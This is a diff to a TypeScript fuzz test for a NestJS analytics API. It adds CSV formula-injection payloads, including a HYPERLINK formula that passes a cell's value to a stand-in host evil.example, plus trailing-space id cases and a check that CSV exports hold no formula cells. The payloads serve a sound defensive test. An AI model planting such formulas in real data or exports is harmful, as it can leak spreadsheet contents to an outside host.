@@ -9,7 +9,9 @@
  *
  * FUZZ_RUNS (default 5000, about 20 s here) sets the number of generated requests, FUZZ_SEED replays a run.
  * A failing case is written to test/fuzz-corpus/ (commit it): every case there is replayed
- * first, on every run.
+ * first, on every run. A corpus case may also carry an `expect` (status, text the answer must or
+ * must not hold): the CSV formula and trailing-space cases of issue #12 use it. Every CSV answer
+ * is checked for a cell a spreadsheet would run as a formula.
  */
 import type { INestApplication } from '@nestjs/common';
 import fc from 'fast-check';
@@ -17,6 +19,7 @@ import { createHash } from 'node:crypto';
 import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { Agent, request as httpRequest } from 'node:http';
 import path from 'node:path';
+import { formulaCells } from './support/csv';
 import { event, pageview, purchase } from './support/hits';
 import { documentedRoutes, SAMPLE_QUERIES } from './support/routes';
 import { TestEnv } from './support/test-env';
@@ -29,13 +32,16 @@ const MARKER = 'zqxmarker';
 
 /**
  * A request with placeholders, so that a case stays meaningful in another database:
- * `{site}` (the fuzzer's site), `{foreign}` (the other user's site), `{key}` (the fuzzer's key).
+ * `{site}` (the fuzzer's site), `{foreign}` (the other user's site), `{key}` (the fuzzer's key),
+ * `{from}` and `{to}` (three days ago and today, the range of the fuzzer's data).
+ * A corpus case may also say what its answer must be (`expect`), beyond the invariants.
  */
 export interface FuzzCase {
   description?: string;
   method: string;
   path: string;
   headers: Record<string, string>;
+  expect?: { status?: number; includes?: string[]; excludes?: string[] };
 }
 
 interface Answer {
@@ -113,6 +119,12 @@ const HOSTILE = [
   '\u202e',
   '\ud800',
   'ｓｅｓｓｉｏｎｓ',
+  '=HYPERLINK("http://evil.example/")',
+  '@SUM(1+1)',
+  '\t=1',
+  'fuzz-s0 ',
+  '/fuzz/pricing ',
+  'fuzz_signup ',
 ];
 
 /** What a response must never show: stack frames, driver errors, SQL, source paths. */
@@ -401,6 +413,26 @@ describe('Fuzzing every documented route (fast-check)', () => {
         );
       }
     }
+    // Values a spreadsheet would run as formulas (every CSV answer is checked for them), and
+    // ids, paths and names that differ from the ones above only by a trailing space: a session
+    // of their own, never counted with `fuzz-s0`, `/fuzz/pricing` or `fuzz_signup`.
+    hits.push(
+      pageview(site, 'fuzz-s0 ', at(5), '/fuzz/pricing ', {
+        id: 'fuzz-pv-0 ',
+        visitor_id: 'v-fuzz-trailing',
+        source: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        channel: '+fuzz',
+        country: '-fuzz',
+        device: '@fuzz',
+        browser: '\tfuzz',
+      }),
+      pageview(site, 'fuzz-s0 ', at(4), '/fuzz/pricing ', { id: 'fuzz-pv-0', visitor_id: 'v-fuzz-trailing' }),
+      event(site, 'fuzz-s0 ', at(3), 'fuzz_signup ', { visitor_id: 'v-fuzz-trailing' }),
+      purchase(site, 'fuzz-s0 ', at(2), 'fuzz-order-0 ', '1.00', {
+        visitor_id: 'v-fuzz-trailing',
+        items: [{ sku: '=fuzz-sku', name: '@fuzz product', quantity: 1, price: '1.00' }],
+      }),
+    );
     const imported = await env.importHits(hits);
     expect(imported.rejections).toEqual([]);
     await env.aggregate();
@@ -408,7 +440,14 @@ describe('Fuzzing every documented route (fast-check)', () => {
     app = await env.startApp({ RATE_LIMIT_PER_MINUTE: '100000000' });
     const server = await app.listen(0, '127.0.0.1');
     port = (server.address() as { port: number }).port;
-    placeholders = { '{site}': String(site), '{foreign}': String(foreign), '{key}': key };
+    const day = (offset: number) => new Date(now - offset * 86_400_000).toISOString().slice(0, 10);
+    placeholders = {
+      '{site}': String(site),
+      '{foreign}': String(foreign),
+      '{key}': key,
+      '{from}': day(3),
+      '{to}': day(0),
+    };
 
     const document = (await (await fetch(`http://127.0.0.1:${port}/api/docs-json`)).json()) as {
       paths: Record<string, { get: { parameters?: DocumentedParameter[] } }>;
@@ -426,7 +465,8 @@ describe('Fuzzing every documented route (fast-check)', () => {
     process.stdout.write(`fuzz: ${sent} requests, by status ${JSON.stringify(statuses)}\n`);
   });
 
-  const materialize = (text: string) => text.replace(/\{site\}|\{foreign\}|\{key\}/g, (p) => placeholders[p]);
+  const materialize = (text: string) =>
+    text.replace(/\{site\}|\{foreign\}|\{key\}|\{from\}|\{to\}/g, (p) => placeholders[p]);
 
   function send(c: FuzzCase): Promise<Answer> {
     sent++;
@@ -458,6 +498,14 @@ describe('Fuzzing every documented route (fast-check)', () => {
     };
     if (a.status >= 500) fail('a 5xx');
     const type = String(a.headers['content-type'] ?? '');
+    if (c.expect?.status !== undefined && a.status !== c.expect.status)
+      fail(`not the expected ${c.expect.status}`);
+    for (const text of c.expect?.includes ?? [])
+      if (!a.body.includes(materialize(text))) fail(`no ${JSON.stringify(text)} in the answer`);
+    for (const text of c.expect?.excludes ?? [])
+      if (a.body.includes(materialize(text))) fail(`${JSON.stringify(text)} in the answer`);
+    if (type.startsWith('text/csv') && formulaCells(a.body).length > 0)
+      fail(`a CSV cell a spreadsheet would run as a formula: ${JSON.stringify(formulaCells(a.body)[0])}`);
     // What the request itself carried may come back (a parameter's name in a 400): not a leak.
     const sent = decoded(JSON.stringify(c));
     const leaks = (text: string) => text.toLowerCase().includes(MARKER);
